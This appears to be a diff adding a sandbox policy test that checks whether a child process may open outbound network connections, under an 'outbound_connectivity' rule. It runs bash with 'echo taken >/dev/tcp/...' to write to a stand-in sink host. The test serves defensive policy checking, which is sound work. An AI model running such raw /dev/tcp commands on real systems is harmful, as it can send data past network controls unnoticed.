@@ -1,0 +1,13 @@
+# class: network
+# rule: outbound_connectivity
+# policy: child-allowed.yaml
+# success: a shell that may be started connects by its own device
+# proof: sink
+import subprocess
+
+from attack import SINK, attempt
+
+
+@attempt
+def connect():
+    return subprocess.run(["/bin/bash", "-c", "echo taken >/dev/tcp/%s/%d" % SINK]).returncode == 0
